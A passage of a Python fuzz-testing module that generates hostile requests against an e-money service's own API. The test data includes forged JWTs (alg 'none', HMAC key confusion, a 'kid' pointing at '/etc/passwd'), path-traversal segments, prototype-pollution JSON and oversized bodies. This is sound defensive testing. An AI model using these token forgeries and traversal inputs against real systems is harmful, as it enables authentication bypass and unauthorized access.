        fields = json.loads(_unb64(header))
        fields["alg"] = "HS256"
        return f"{_b64(json.dumps(fields).encode())}.{payload}.{signature[:43]}"

    def expired(token: str) -> str:
        header, payload, signature = token.split(".")
        claims = json.loads(_unb64(payload))
        claims["exp"] = claims["iat"] + 10**9
        return f"{header}.{_b64(json.dumps(claims).encode())}.{signature}"

    def flip(token: str, position: int) -> str:
        index = position % len(token)
        replacement = "A" if token[index] != "A" else "B"
        return token[:index] + replacement + token[index + 1 :]

    def unknown_kid(token: str) -> str:
        header, payload, signature = token.split(".")
        fields = json.loads(_unb64(header))
        fields["kid"] = "../../../../etc/passwd"
        return f"{_b64(json.dumps(fields).encode())}.{payload}.{signature}"

    real = st.sampled_from(real_tokens)
    return st.one_of(
        real.map(escalate),
        real.map(alg_none),
        real.map(hmac_confusion),
        real.map(expired),
        real.map(unknown_kid),
        st.tuples(real, st.integers(0, 10_000)).map(lambda pair: flip(*pair)),
        real.map(lambda token: token.rsplit(".", 1)[0] + "."),
    )


def garbage_authorization() -> st.SearchStrategy[str]:
    return st.one_of(
        st.text(alphabet=PRINTABLE_ASCII, max_size=80).map(lambda text: f"Bearer {text}".strip()),
        st.text(alphabet=PRINTABLE_ASCII, max_size=80).map(str.strip),
        st.sampled_from(["Bearer", "bearer", "Bearer  ", "Basic dXNlcjpwYXNzd29yZA==", "Token abc", "Bearer a.b.c",
                         "Bearer ..", "Bearer eyJhbGciOiJub25lIn0.e30.", "Bearer null", "Negotiate YII=", "Bearer " + "a" * 4_090,
                         "Bearer " + "a." * 3_000, "Bearer " + "A" * 12_000]),
    )


def authorization_for(role: str, world: FuzzWorld) -> st.SearchStrategy[str | None]:
    if role == "none":
        return st.none()
    if role == "garbage":
        return garbage_authorization()
    if role == "forged":
        return forged_tokens(list(world.tokens.values())).map(lambda token: f"Bearer {token}")
    token = world.tokens[role]
    return st.sampled_from([f"Bearer {token}", f"bearer {token}", f"BEARER {token}", f"Bearer {token} "])


# -- the JSON face -----------------------------------------------------------------------------

JSON_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.sampled_from([2**63, -(2**63) - 1, 2**64, 10**30, -(10**30)]),
    st.floats(allow_nan=False, allow_infinity=False),
    text_values(),
)
JSON_VALUES = st.recursive(
    JSON_SCALARS,
    _json_containers,
    max_leaves=12,
)


def _json_name(field_descriptor: FieldDescriptor) -> str:
    return field_descriptor.json_name


_SIXTY_FOUR_BIT = frozenset({
    FieldDescriptor.TYPE_INT64, FieldDescriptor.TYPE_SINT64, FieldDescriptor.TYPE_SFIXED64,
    FieldDescriptor.TYPE_UINT64, FieldDescriptor.TYPE_FIXED64,
})


def json_field_values(field_descriptor: FieldDescriptor, world: FuzzWorld | None, collections) -> st.SearchStrategy[Any]:
    """Values in the proto3 JSON mapping (int64 as string or number, Timestamp as RFC 3339), plus wrong types."""
    message_type = field_descriptor.message_type
    if message_type is not None and message_type.full_name == "google.protobuf.Timestamp":
        scalar = st.one_of(
            st.sampled_from(["0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999999999Z", "10000-01-01T00:00:00Z",
                             "0000-01-01T00:00:00Z", "1970-01-01T00:00:00Z", "2024-02-30T00:00:00Z", "2024-01-01T25:61:61Z",
                             "2024-01-01T00:00:00+99:99", "2024-01-01", "now", "", "-1"]),
            st.datetimes().map(lambda moment: moment.isoformat() + "Z"),
        )
    elif message_type is not None:
        scalar = st.dictionaries(st.sampled_from([f.json_name for f in message_type.fields] or ["x"]), JSON_SCALARS, max_size=3)
    elif field_descriptor.type in (FieldDescriptor.TYPE_STRING,):
        scalar = string_for(field_descriptor.name, world, collections)
    elif field_descriptor.type == FieldDescriptor.TYPE_BYTES:
        scalar = st.one_of(st.binary(max_size=30).map(lambda raw: base64.b64encode(raw).decode()), text_values())
    elif field_descriptor.type == FieldDescriptor.TYPE_BOOL:
        scalar = st.one_of(st.booleans(), st.sampled_from(["true", "yes", 1]))
    elif field_descriptor.type in (FieldDescriptor.TYPE_DOUBLE, FieldDescriptor.TYPE_FLOAT):
        scalar = st.one_of(st.floats(allow_nan=False, allow_infinity=False), st.sampled_from(["NaN", "Infinity", "-Infinity", "1e999"]))
    elif field_descriptor.type == FieldDescriptor.TYPE_ENUM:
        # Names (what the JSON face speaks), near misses, numbers known and unknown (proto3 enums are open).
        names = [value.name for value in field_descriptor.enum_type.values]
        scalar = st.one_of(
            st.sampled_from(names),
            st.sampled_from([*(name.lower() for name in names), *(name.split("_", 2)[-1] for name in names), "", " ", "customer"]),
            integers_in(INT32),
            integers_in(INT32).map(str),
        )
    else:
        numbers = integers_in(INT64 if field_descriptor.type in _SIXTY_FOUR_BIT else INT32)
        scalar = st.one_of(
            numbers,
            numbers.map(str),
            st.sampled_from([1.5, -0.0, 1e20, "1e3", "0x10", " 1", "", "9" * 40, 2**64, -(2**70)]),
        )
    if field_descriptor.is_repeated:
        return st.one_of(st.lists(scalar, max_size=4), scalar)
    return st.one_of(scalar, scalar, JSON_VALUES)


def json_objects(method: Method, world: FuzzWorld | None) -> st.SearchStrategy[dict[str, Any]]:
    collections = route_collections(method)
    optional: dict[str, st.SearchStrategy[Any]] = {}
    for field_descriptor in method.input.fields:
        strategy = json_field_values(field_descriptor, world, collections.get(field_descriptor.name))
        optional[_json_name(field_descriptor)] = strategy
        if field_descriptor.name != field_descriptor.json_name:
            optional[field_descriptor.name] = strategy  # both spellings are accepted (and may collide)
    optional["unknownField"] = JSON_VALUES
    return st.fixed_dictionaries({}, optional=optional)


RAW_BODIES = (
    b"", b" ", b"{", b"}", b"[", b"{}", b"[]", b"null", b"0", b"\"\"", b"{'a': 1}", b"{\"a\":}", b"{\"a\" 1}", b"nul",
    b"\xff\xfe", b"\xef\xbb\xbf{}", b"{\"email\":\"\xff\"}", b"{\"email\":\"\\ud800\"}", b"{\"email\":\"\\u0000\"}",
    b"{\"pageSize\": 1e400}", b"{\"amountMinor\": \"9223372036854775808\"}", b"{\"amountMinor\": 9223372036854775808}",
    b"{\"amountMinor\": -9223372036854775809}", b"{\"email\":\"a\",\"email\":\"b\"}", b"\x00", b"{\"a\":1}\x00",
    b"{\"a\":1} trailing", b"{} {}", b"/* comment */ {}", b"{\"__proto__\": {\"x\": 1}}", b"\x1f\x8b\x08\x00",
)


def _message_json(message: Message) -> bytes:
    """The proto3 JSON form of a (plausible or hostile) request message; `{}` when it has none (a
    Timestamp outside the JSON-representable range)."""
    try:
        return json_format.MessageToJson(message).encode()
    except (ValueError, OverflowError, json_format.SerializeToJsonError):
        return b"{}"


def json_bodies(method: Method, world: FuzzWorld | None) -> st.SearchStrategy[bytes]:
    def dumps(value: Any) -> bytes:
        return json.dumps(value, ensure_ascii=False).encode("utf-8", "surrogatepass")

    return st.one_of(
        request_messages(method, world).map(lambda message: _message_json(world.protect(method.name, message) if world else message)),
        request_messages(method, world).map(lambda message: _message_json(world.protect(method.name, message) if world else message)),
        json_objects(method, world).map(dumps),
        json_objects(method, world).map(lambda value: json.dumps(value).encode()),
        JSON_VALUES.map(dumps),
        st.sampled_from(RAW_BODIES),
        st.binary(max_size=200),
        st.integers(10, 3_000).map(lambda depth: b"{\"a\":" * depth + b"1" + b"}" * depth),
        st.integers(10, 3_000).map(lambda depth: b"[" * depth + b"]" * depth),
        st.integers(10, 100_000).map(lambda count: b"{\"pageSize\": 1" + b"0" * count + b"}"),
        st.sampled_from([64 * 1024, 900 * 1024, 2 * 1024 * 1024]).map(
            lambda size: b"{\"email\": \"" + b"a" * size + b"\", \"displayName\": \"x\"}"
        ),
    )


def query_strings(method: Method, world: FuzzWorld | None) -> st.SearchStrategy[str]:
    names = [name for f in method.input.fields for name in {f.name, f.json_name}]
    names += ["startTime.seconds", "pageSize", "page_size", "$alt", "alt", "callback", "fields", "key", "access_token"]
    value = st.one_of(text_values(), st.integers().map(str), st.sampled_from(["1000000000", "-1", "1e3", "0x10", "true", ""]))
    pairs = st.lists(st.tuples(st.sampled_from(names), value), max_size=6)
    return st.one_of(
        pairs.map(lambda items: urllib.parse.urlencode(items)),
        st.sampled_from(["", "&", "&&=", "=", "a", "%", "%zz", "%ff%fe", "a=%00", "pageSize=%ff", "pageSize=1&pageSize=2",
                         "a[b]=c", "a=" + "x" * 10_000, ";", "#frag", "?", "pageToken=" + "A" * 5_000]),
        st.text(alphabet=string.ascii_letters + string.digits + "&=%+;,.-_~", max_size=60),
    )


def path_segments(world: FuzzWorld | None, collection: str) -> st.SearchStrategy[str]:
    """One already-encoded path segment for `{field=collection/*}`."""
    known = [name.split("/", 1)[1] for name in (world.names.get(collection, []) if world else [])]
    options = [
        st.uuids().map(str),
        text_values().map(lambda text: urllib.parse.quote(text, safe="")),
        st.sampled_from(["", ".", "..", "%2e%2e", "%2F", "a%2Fb", "%00", "%ff", "%zz", "*", "demo-city", "platform",
                         "a" * 300, "%" + "41" * 3, "a;b", "a:b", "a:freeze", "%3A"]),
        huge_strings().map(lambda text: urllib.parse.quote(text[:5_000], safe="")),
    ]
    if known:
        options.insert(0, st.sampled_from(known))
    return st.one_of(*options)


def route_paths(method: Method, world: FuzzWorld | None) -> st.SearchStrategy[str]:
    """The route's template with each variable replaced by a random (encoded) value."""
    assert method.http is not None
    template = method.http.template
    variables = method.http.variables()
    if not variables:
        return st.just(template)

    def render(values: list[str]) -> str:
        path = template
        for (field_name, pattern), value in zip(variables, values):
            start = path.index("{")
            end = path.index("}", start)
            prefix = pattern.split("/", 1)[0] + "/" if "/" in pattern else ""
            path = path[:start] + prefix + value + path[end + 1 :]
        return path

    segments = [path_segments(world, pattern.split("/", 1)[0]) for _, pattern in variables]
    return st.tuples(*segments).map(lambda values: render(list(values)))


def random_paths() -> st.SearchStrategy[str]:
    segment = st.text(alphabet=string.ascii_letters + string.digits + "-._~:%@!$&'()*+,;=", max_size=20)
    return st.one_of(
        st.lists(segment, max_size=5).map(lambda parts: "/" + "/".join(parts)),
        st.lists(segment, max_size=4).map(lambda parts: "/v1/" + "/".join(parts)),
        text_values().map(lambda text: "/v1/" + urllib.parse.quote(text[:3_000], safe="/:")),
        st.sampled_from(["/", "//", "/v1", "/v1/", "/v1//users", "/v1/users/", "/V1/USERS", "/v1/./users", "/v1/../v1/users",
                         "/v1/%2e%2e/v1/users", "/v1/users%00", "/v1/users;x=1", "/v1/users:list", "/v1/accounts/:freeze",
                         "/v1/accounts/a/b/c", "/v2/users", "/emoney.auth.v1.AuthService/Login", "/emoney.auth.v1.AuthService/",
                         "/grpc.health.v1.Health/Check", "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo",
                         "/openapi.json", "/openapi.json/", "/docs/", "/stats", "/admin", "/ready", "/server_info", "/clusters",
                         "/" + "a" * 10_000, "/v1/" + "%41" * 3_000, "/v1/tenants/demo-city/..%2f..%2fusers"]),
    )


CONTENT_TYPES = (
    "application/json", "application/json; charset=utf-8", "application/json;charset=UTF-8", "application/json; charset=latin-1",
    "APPLICATION/JSON", "application/json+fuzz", "text/json", "text/plain", "text/html", "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=xyz", "application/xml", "application/octet-stream", "application/x-protobuf",
    "application/x-ndjson", "*/*", "", ";", "application/json; boundary=" + "x" * 2_000,
)


def http_headers(world: FuzzWorld, role: str) -> st.SearchStrategy[dict[str, str]]:
    """Request headers for the JSON face: authorization of a role, content type, and noise."""
    authorization = authorization_for(role, world)
    header_names = st.one_of(
        st.sampled_from(["accept", "accept-encoding", "accept-language", "origin", "referer", "cookie", "x-request-id",
                         "x-forwarded-for", "x-forwarded-proto", "x-envoy-original-path", "x-envoy-original-method",
                         "x-http-method-override", "x-grpc-web", "te", "cache-control", "if-none-match", "range",
                         "expect", "x-user-agent", "idempotency-key", "grpc-accept-encoding", "grpc-message"]),
        st.text(alphabet=string.ascii_lowercase + string.digits + "-", min_size=1, max_size=30).map(lambda name: "x-" + name),
    ).filter(lambda name: not is_grpc_reserved_header(name))
    header_values = st.one_of(
        st.text(alphabet=PRINTABLE_ASCII, max_size=60).map(str.strip),
        st.sampled_from(["*/*", "gzip", "br, gzip, deflate", "http://127.0.0.1:8080", "http://evil.example", "null",
                         "bytes=0-1", "100-continue", "trailers", "1S", "99999999H", "identity", "deflate", "1"]),
        st.builds(lambda piece, count: piece * count, st.sampled_from(["a", "%"]), st.sampled_from([1_000, 8_000, 20_000])),
    )
    return st.fixed_dictionaries(
        {"authorization": authorization},
        optional={
            "content-type": st.sampled_from(CONTENT_TYPES),
            "extra": st.dictionaries(header_names, header_values, max_size=5),
        },
    ).map(_flatten_headers)


def _flatten_headers(drawn: dict[str, Any]) -> dict[str, str]:
    headers: dict[str, str] = {}
    for key, value in drawn.get("extra", {}).items():
        headers[key] = value
    if drawn.get("authorization") is not None:
        headers["authorization"] = drawn["authorization"]
    if "content-type" in drawn:
        headers["content-type"] = drawn["content-type"]
    return headers


# Headers gRPC itself parses (grpc-timeout, grpc-encoding, grpc-status, ..., and binary `-bin`
# metadata). A malformed one sent by an HTTP client is passed on by Envoy and fails the call inside gRPC
# core, before any of our code (HTTP 500): a known gap with its own test (test_fuzz_json.py), kept out
# of the random headers so the fuzzers check everything else.
GRPC_RESERVED_HEADER_PREFIX = "grpc-"
GRPC_HARMLESS_HEADERS = frozenset({"grpc-accept-encoding", "grpc-message"})


def is_grpc_reserved_header(name: str) -> bool:
    name = name.lower()
    return name.endswith("-bin") or (name.startswith(GRPC_RESERVED_HEADER_PREFIX) and name not in GRPC_HARMLESS_HEADERS)


HTTP_METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "FUZZ")


def grpc_status_name(code: int) -> str:
    for status in grpc.StatusCode:
        if status.value[0] == code:
            return status.name
    return f"CODE_{code}"


def role_strategy(allowed: frozenset[str] | None) -> st.SearchStrategy[str]:
    """Half the time a role the access policy allows (the call gets past authorization), else any."""
    if not allowed:
        return st.sampled_from(ROLES)
    return st.one_of(st.sampled_from(sorted(allowed)), st.sampled_from(ROLES))



# -- building the fuzz world against a running stack -------------------------------------------


def _normal(name: str) -> str:
    """`accounts/{UUID in any spelling the server accepts}` → one spelling; tenants → lower-case slug."""
    collection, _, rest = name.strip().partition("/")
    try:
        return f"{collection}/{uuid.UUID(rest)}"
    except ValueError:
        return name.strip().lower()


def build_world(stack) -> FuzzWorld:
    """Real resources in the demo tenant for the fuzzers to name, and a token for every role."""
    # Imported here: the strategies themselves need no stack.
    from emoney.admin.v1 import admin_pb2
    from emoney.auth.v1 import auth_pb2
    from emoney.payments.v1 import payments_pb2
    from tests.fixtures.identity import admin_stub, auth_stub, bearer, create_tenant, login_as, sign_up
    from tests.fixtures.ledger import new_customer, new_shop, payment_code, payments_stub, request_id

    envoy = stack.endpoints.envoy
    with grpc.insecure_channel(envoy) as channel:
        operator = login_as(stack, "operator")
        customer = new_customer(stack, channel, funded_minor=5_000_000)
        spare_customer = new_customer(stack, channel)
        shop = new_shop(stack, channel)
        auth = auth_stub(channel)
        merchant_user = auth.GetCurrentUser(auth_pb2.GetCurrentUserRequest(), metadata=bearer(shop.token), timeout=10).user
        terminal = auth.GetCurrentUser(auth_pb2.GetCurrentUserRequest(), metadata=bearer(shop.terminal_token), timeout=10).terminal
        spare_terminal = admin_stub(channel).RegisterTerminal(
            admin_pb2.RegisterTerminalRequest(merchant=merchant_user.name, display_name="Fuzz spare till"),
            metadata=bearer(operator), timeout=10,
        ).terminal
        payments = payments_stub(channel)
        transfer = payments.CreateTransfer(
            payments_pb2.CreateTransferRequest(
                request_id=request_id(), from_account=customer.account, to_account=shop.account, amount_minor=1_000, currency="EUR"
            ),
            metadata=bearer(customer.token), timeout=10,
        ).payment
        hold = payments.AuthorizePayment(
            payments_pb2.AuthorizePaymentRequest(
                request_id=request_id(), code=payment_code(channel, customer, 5_000), amount_minor=2_000, currency="EUR"
            ),
            metadata=bearer(shop.terminal_token), timeout=10,
        ).payment
        codes = [payment_code(channel, customer, 500_000) for _ in range(3)]
    spare_tenant, _ = create_tenant(stack, "fuzz")
    throwaway, _ = sign_up(envoy)

    tokens = {role: login_as(stack, role) for role in ("operator", "tenant_admin", "platform_admin")}
    tokens.update(customer=customer.token, merchant=shop.token, terminal=shop.terminal_token)
    spare_tenant_name = spare_tenant.tenant.tenant.name
    decoys = {
        customer.account: spare_customer.account,
        shop.account: spare_customer.account,
        shop.terminal: spare_terminal.name,
        "tenants/demo-city": spare_tenant_name,
        "tenants/platform": spare_tenant_name,
    }
    world = FuzzWorld(
        tokens=tokens,
        names={
            "accounts": [customer.account, shop.account, spare_customer.account],
            "users": [customer.user, merchant_user.name, spare_customer.user],
            "payments": [transfer.name, hold.name],
            "terminals": [shop.terminal, spare_terminal.name],
            "tenants": ["tenants/demo-city", spare_tenant_name],
        },
        emails=[user.email for user in stack.demo.users] + [merchant_user.email],
        codes=codes,
        client_ids=[terminal.client_id, stack.demo.terminal.client_id],
        refresh_tokens=[throwaway.tokens.refresh_token],
        tenant_id_hex=uuid.UUID(str(stack.demo.tenant_id)).hex,
        decoys={_normal(name): decoy for name, decoy in decoys.items()},
    )
    # Every role a fuzzed call may carry (authorization_for) has a token, and a destructive call pointed at
    # a decoy never ends a resource the rest of the run needs: no decoy is itself a protected name.
    assert set(ROLES) - {"none", "garbage", "forged"} <= set(world.tokens), sorted(world.tokens)
    assert not {_normal(decoy) for decoy in world.decoys.values()} & set(world.decoys), world.decoys
    return world


# -- checks shared by the fuzzers ----------------------------------------------------------------


def assert_stack_healthy_and_balanced(stack) -> None:
    """Both servers up and SERVING (asked directly, not through Envoy), and the demo tenant's ledger
    reconciles (no discrepancy) and its audit chain verifies, as the demo operator sees them."""
    for address in stack.endpoints.grpc_servers:
        with grpc.insecure_channel(address) as direct:
            health = health_pb2_grpc.HealthStub(direct)
            for service in ("", "emoney.auth.v1.AuthService", "emoney.payments.v1.PaymentsService"):
                status = health.Check(health_pb2.HealthCheckRequest(service=service), timeout=5).status
                assert status == health_pb2.HealthCheckResponse.SERVING, (address, service, status)
    operator = login_as(stack, "operator")
    with grpc.insecure_channel(stack.endpoints.envoy) as envoy:
        admin = admin_pb2_grpc.AdminServiceStub(envoy)
        report = admin.ReconcileLedger(admin_pb2.ReconcileLedgerRequest(), metadata=bearer(operator), timeout=30)
        assert report.ok and not report.discrepancies and not report.truncated, report
        assert report.accounts_checked > 0 and report.transfers_checked > 0
        audit = admin.VerifyAuditChain(admin_pb2.VerifyAuditChainRequest(), metadata=bearer(operator), timeout=30)
        assert audit.ok and not audit.broken_links, audit


def write_summary(path: Path, tried: Counter) -> None:
    per_method: dict[str, dict[str, int]] = {}
    for (method, kind, outcome), count in sorted(tried.items()):
        per_method.setdefault(method, {}).setdefault(f"{kind}:{outcome}", 0)
        per_method[method][f"{kind}:{outcome}"] += count
    summary = {"inputs": sum(tried.values()), "methods": len(per_method), "outcomes": per_method}
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(summary, indent=2, sort_keys=True) + "\n", encoding="utf-8")
    print(f"\nfuzz summary ({path.name}): {summary['inputs']} inputs over {summary['methods']} methods")
